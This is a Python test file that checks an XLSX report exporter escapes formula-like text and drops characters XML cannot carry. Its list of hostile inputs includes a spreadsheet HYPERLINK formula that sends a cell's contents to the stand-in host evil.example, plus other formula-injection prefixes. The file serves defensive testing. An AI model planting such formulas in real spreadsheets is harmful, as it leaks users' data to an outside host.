"""Report workbooks carry text as text: no live formula, no character that breaks the file (issue 13, 4)."""
from __future__ import annotations

import zipfile
from io import BytesIO

import pytest
from openpyxl import load_workbook

from services.report_export import build_xlsx

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")', "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]


def _content(note: str, name: str = "Показатель") -> dict:
    return {
        "program": {"slug": "p", "title": "Программа"}, "version": 1, "kind": "annual", "period": "2016",
        "period_label": "2016 год", "financing_unit": "тыс. руб.", "note": note,
        "indicators": [{"code": "I1", "name": name, "unit": "%", "direction": "increase", "plan": "1",
                        "fact": "2", "achievement": "1", "missing": False, "source": None}],
        "financing": [], "financing_total": {"plan": None, "spent": None, "execution": None},
        "activities": [],
    }


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_looks_like_a_formula_is_written_as_text(text):
    data = build_xlsx(_content(text, name=text))
    with zipfile.ZipFile(BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)
    wb = load_workbook(BytesIO(data))
    values = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    if not text.startswith("\r"):  # a bare CR may come back as XML's line ending; the point is no formula
        assert text in values
    assert all(c.data_type != "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)


def test_characters_xml_cannot_carry_are_dropped_not_fatal():
    data = build_xlsx(_content("до\x01после\x0b"))
    wb = load_workbook(BytesIO(data))
    assert "допосле" in [c.value for row in wb.worksheets[0].iter_rows() for c in row]
